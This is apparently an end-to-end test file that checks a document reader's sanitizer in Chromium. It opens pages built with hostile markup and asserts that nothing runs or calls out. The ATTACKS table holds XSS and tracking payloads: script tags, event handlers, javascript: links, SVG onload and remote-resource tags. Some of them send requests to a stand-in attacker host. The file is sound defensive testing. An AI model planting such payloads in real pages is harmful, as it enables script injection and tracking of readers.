/**
 * End to end in Debian Chromium: pages made to attack the reader — scripts, event handlers,
 * `javascript:` links, remote images, CSS with `url()`, SVG with script, `<meta http-equiv=refresh>`,
 * frames, objects, forms, `<base>` and `<link>` — are imported and opened in the reader. No
 * script runs (nothing sets the marker, no dialog opens) and no request leaves: a server standing
 * in for the attacker counts every request it gets, and the browser's requests are watched too.
 * The article's own words are still there to read.
 */
import { createServer, type Server } from 'node:http';
import { mkdir, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/chromium';
import { serve, yandu } from '../support/cli';
import { tempDir } from '../support/tmp';

const BODY = '为基层减负，关键在于精简文件和会议，让基层干部把精力真正花在干实事上。'.repeat(6);

/** Attack name → the page's hostile markup (EVIL is replaced by the attacker's address). */
const ATTACKS: Record<string, string> = {
  script: `<script>window.__pwned='script';fetch('EVIL/script')</script><script src="EVIL/external.js"></script>`,
  onerror: `<img src="EVIL/missing.png" onerror="window.__pwned='onerror'"><img src=x onerror="window.__pwned='onerror2'">`,
  javascriptLink: `<a id="bad" href="javascript:window.__pwned='link'">点这里查看原文</a>`,
  remoteImage: `<img src="EVIL/tracker.gif" width="1" height="1"><picture><source srcset="EVIL/pic.webp"><img src="EVIL/pic.jpg"></picture>`,
  cssUrl: `<style>body{background:url(EVIL/css-bg.png)} @import url(EVIL/import.css);</style><p style="background-image:url(EVIL/inline.png)">带样式的段落</p>`,
  svgScript: `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned='svg-onload'"><script>window.__pwned='svg'</script><image href="EVIL/svg-image.png"/></svg>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=EVIL/refresh">`,
  iframe: `<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">`,
  form: `<form action="EVIL/form"><input autofocus onfocus="window.__pwned='onfocus'"><button formaction="javascript:window.__pwned='form'">提交</button></form>`,
  baseAndLink: `<base href="EVIL/"><link rel="stylesheet" href="EVIL/sheet.css"><link rel="prefetch" href="EVIL/prefetch"><video src="EVIL/video.mp4" autoplay></video><audio src="EVIL/audio.mp3" autoplay></audio>`,
};

describe('hostile pages in the reader', () => {
  let browser: Browser;
  let page: Page;
  let server: Awaited<ReturnType<typeof serve>>;
  let evil: Server;
  let evilUrl: string;
  const evilHits: string[] = [];
  const browserRequests: string[] = [];
  const dialogs: string[] = [];
  const ids: Record<string, string> = {};

  beforeAll(async () => {
    evil = createServer((req, res) => {
      evilHits.push(req.url ?? '');
      res.writeHead(200, { 'Content-Type': 'text/plain' }).end('evil');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

    const root = await tempDir('e2e-hostile-');
    const files = join(root, 'pages');
    await mkdir(files);
    for (const [name, markup] of Object.entries(ATTACKS)) {
      const html = `<!doctype html><html><head><meta charset="utf-8"><title>攻击测试 ${name}</title>${name === 'metaRefresh' || name === 'baseAndLink' ? markup.replaceAll('EVIL', evilUrl) : ''}</head>
<body><article><h1>攻击测试 ${name}</h1><p>${BODY}</p>${markup.replaceAll('EVIL', evilUrl)}<p>${BODY}</p></article></body></html>`;
      await writeFile(join(files, `${name}.html`), html);
    }
    const library = join(root, 'library');
    const added = await yandu(['add', files, '--library', library, '--json']);
    expect(added.code, added.stderr).toBe(0);
    for (const d of JSON.parse((await yandu(['list', '--json', '--library', library])).stdout) as { id: string; title: string }[]) ids[d.title.replace('攻击测试 ', '')] = d.id;
    expect(Object.keys(ids).sort()).toEqual(Object.keys(ATTACKS).sort());
    server = await serve(library, { YANDU_DOWNLOADS: join(root, 'none') });
    browser = await launchChromium();
    page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    page.on('request', (r) => {
      if (!r.url().startsWith(new URL(server.url).origin)) browserRequests.push(r.url());
    });
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(server.url);
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await new Promise((resolve) => evil?.close(resolve));
  });

  for (const name of Object.keys(ATTACKS)) {
    it(`${name}: nothing runs, nothing is fetched, the text is there`, async () => {
      await page.goto(`${new URL(server.url).origin}/#/read/${ids[name]}`);
      await page.getByTestId('reader').waitFor();
      expect(await page.getByTestId('reader').innerText()).toContain('让基层干部把精力真正花在干实事上');
      // Anything the page smuggled in would act now: click every link and button in the article.
      for (const el of await page.locator('.reader-body a, .reader-body button').all()) await el.click({ timeout: 1000 }).catch(() => undefined);
      await page.waitForTimeout(700);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      expect(await page.locator('.reader-body :is(script, img, svg, iframe, object, embed, form, input, style, link, meta, base, video, audio, a)').count()).toBe(0);
      expect(new URL(page.url()).origin).toBe(new URL(server.url).origin);
    });
  }

  it('made no request to anywhere else, and opened no dialog', () => {
    expect(evilHits).toEqual([]);
    expect(browserRequests).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it('would have seen an attack: the same markup opened raw in a plain page reaches the attacker', async () => {
    const raw = await browser.newPage();
    await raw.setContent(`<p>raw</p>${ATTACKS.remoteImage!.replaceAll('EVIL', evilUrl)}${ATTACKS.script!.replaceAll('EVIL', evilUrl)}`);
    await expect.poll(() => evilHits.length).toBeGreaterThan(0);
    expect(await raw.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBe('script');
    await raw.close();
  });
});
